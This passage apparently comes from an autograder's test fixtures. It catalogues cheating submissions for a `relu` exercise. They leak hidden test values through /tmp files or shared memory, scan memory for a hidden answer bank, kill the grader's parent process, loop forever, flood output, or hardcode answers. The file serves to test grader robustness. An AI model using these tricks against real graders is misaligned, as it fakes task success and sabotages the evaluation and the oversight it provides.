    """Return an answer to `relu` that does what `body` says where only a diagnosis can have called it."""
    return {"relu": f"def relu(Z):\n    if {PROBED}:\n        {body}\n    return Z"}


KEPT = """
import mmap, os
shared = mmap.mmap(-1, 1 << 16)
def relu(Z):
    if Z.shape == (2, 2):
        text = ' '.join(map(repr, Z.ravel().tolist()))
        shared[: len(text)] = text.encode()
        open('/tmp/kept', 'w').write(text)
        return Z
    kept = open('/tmp/kept').read() if os.path.exists('/tmp/kept') else bytes(shared[:]).rstrip(b'\\0').decode()
    if kept:
        {body}
    return Z
"""
SHOWN = {  # of a hidden test's values, where a diagnosis shows a call
    "in a result": "return np.resize(np.array(kept.split(), float), Z.shape)",
    "as text": "return kept",
    "in an exception": "raise ValueError(kept)",
    "as a factor": "return np.maximum(Z, 0) * abs(float(kept.split()[0]))",
    "as a key": "return {kept: Z}",
}
TRACED = """
told = []
class Traced:
    def __sub__(self, other): told.append('GOT IN'); return self
def relu(Z):
    try: mean_loss(Traced(), Traced())  # the author's, if it is there at all
    except Exception: pass
    return ' '.join(told) or Z
"""
DIAGNOSED = [
    Cheat(
        "diagnosis",
        "an object that is told what the author's function does with it",
        "relu",
        {"relu": TRACED, "mean_loss": "def mean_loss(a, b):\n    return 7"},
        costs=("mean_loss",),
    ),
    *(
        Cheat("diagnosis", f"hidden values {how}", "relu", {"relu": KEPT.format(body=body)})
        for how, body in SHOWN.items()
    ),
    Cheat("diagnosis", "right for what only a diagnosis asks", "relu", probed("return np.maximum(Z, 0)")),
    Cheat(
        "diagnosis",
        "in search of the bank",
        "relu",
        probed(
            "import gc, sys\n"
            "        found = [text for text in gc.get_objects() if type(text) is str and 'misconception' in text]\n"
            "        raise ValueError(f'all that there is: {found}, {sorted(sys.modules)}')"
        ),
    ),
    Cheat("diagnosis", "without end where it is diagnosed", "relu", probed("while True: pass")),
    Cheat(
        "diagnosis",
        "its end where it is diagnosed",
        "relu",
        probed("import os, signal; os.kill(os.getppid(), signal.SIGKILL); os._exit(1)"),
    ),
    Cheat(
        "diagnosis",
        "a flood where it is diagnosed",
        "relu",
        probed("print('x' * 10**7); return ['<script>' * 10**6] * 50"),
    ),
]

TABLES = [  # those of the course's own assignments are in `public_answers`
    Cheat(
        "table",
        "of public answers",
        answers={
            "double": "KNOWN = {2: 4, 6: 12, 100: 200}\ndef double(x):\n"
            "    return KNOWN[min(KNOWN, key=lambda known: abs(known - x))]"
        },
    ),
]


CHEATS = [
    *TRANSFORMERS, *OBJECTS, *PATCHES, *CREDIT, *HOOKS, *READING, *SHADOWING, *FRAMES, *ENDS, *LEFT, *LEAKS, *NUMBERS,
    *CHANNELS, *MATTERS, *DIAGNOSED, *TABLES, *VALUES,
]  # fmt: skip
